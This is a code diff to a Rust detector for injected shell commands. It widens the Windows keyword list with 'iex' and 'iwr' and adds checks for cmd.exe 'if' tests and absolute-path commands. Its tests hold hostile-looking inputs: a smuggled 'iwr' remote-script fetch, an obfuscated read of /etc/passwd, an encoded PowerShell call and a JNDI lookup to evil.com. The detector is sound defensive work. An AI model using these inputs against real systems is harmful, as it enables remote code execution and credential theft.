@@ -175,13 +175,15 @@ const INVOCATIONS: [&str; 12] = [
 ];
 
 /// Windows shell syntax.
-const WINDOWS: [&str; 14] = [
+const WINDOWS: [&str; 16] = [
     "cmd /c",
     "cmd.exe",
     "cmd /k",
     "powershell",
     "pwsh",
     "iex(",
+    "iex ",
+    "iwr ",
     "invoke-expression",
     "invoke-webrequest",
     "%comspec%",
@@ -216,6 +218,7 @@ pub fn detect(decoded: &[u8]) -> Vec<Rule> {
     if WINDOWS.iter().any(|w| squeezed.contains(w))
         || has_windows_if(&squeezed)
         || has_windows_for(&squeezed)
+        || has_windows_if_test(&squeezed)
     {
         out.push(RCE_WINDOWS);
     }
@@ -315,7 +318,13 @@ fn starts_with_command_and_option(text: &str) -> bool {
             .chars()
             .nth(1)
             .is_some_and(|c| c.is_ascii_alphabetic() || c == '-');
-    option && (COMMANDS.contains(&word) || WORD_COMMANDS.contains(&word))
+    // `cat /etc/pa[s]swd`: a command with an absolute path.
+    let path = rest.starts_with('/')
+        && rest
+            .chars()
+            .nth(1)
+            .is_some_and(|c| c.is_ascii_alphanumeric() || c == '[');
+    (option || path) && (COMMANDS.contains(&word) || WORD_COMMANDS.contains(&word))
 }
 
 /// `$(…)` or a backtick pair with something inside.
@@ -389,6 +398,23 @@ fn has_windows_for(squeezed: &str) -> bool {
     })
 }
 
+/// cmd.exe's `if` with a batch variable or test: `if %a% gtr %b%`, `if "%1"==""`,
+/// `if not defined x`.
+fn has_windows_if_test(squeezed: &str) -> bool {
+    squeezed.match_indices("if ").any(|(i, _)| {
+        let starts_word = i == 0
+            || squeezed
+                .get(..i)
+                .is_some_and(|b| b.ends_with([' ', '(', '&', '|', '"']));
+        let rest = squeezed.get(i + 3..).unwrap_or_default();
+        let batch_var = rest.contains('%') && rest.matches('%').count() >= 2
+            || rest.contains("%~")
+            || rest.matches('!').count() >= 2;
+        starts_word
+            && (batch_var || rest.starts_with("not defined") || rest.starts_with("defined "))
+    })
+}
+
 /// `if /i`, `if not exist`, `if defined`: cmd.exe's `if` forms.
 fn has_windows_if(squeezed: &str) -> bool {
     [
@@ -457,6 +483,11 @@ mod tests {
         assert!(ids("powershell -enc AAAA").contains(&"rce-005"));
         assert!(ids("IF /I \"%var%\"==\"x\" ( ECHO found )").contains(&"rce-005"));
         assert!(ids("FOR /D %a IN (dirs) DO abc").contains(&"rce-005"));
+        assert!(ids("if %n1% gtr %n2% echo bigger").contains(&"rce-005"));
+        assert!(ids("IF NOT DEFINED BAR (").contains(&"rce-005"));
+        assert!(ids(";iwr http://example.com/x.ps1").contains(&"rce-005"));
+        assert!(ids("cat /etc/pa[s]swd").contains(&"rce-001"));
+        assert!(ids("if you want, 100% of it").is_empty());
         assert!(ids("x=<(cmd)").contains(&"rce-002"));
         assert!(ids("${jndi:ldap://evil.com/x}").contains(&"rce-003"));
     }
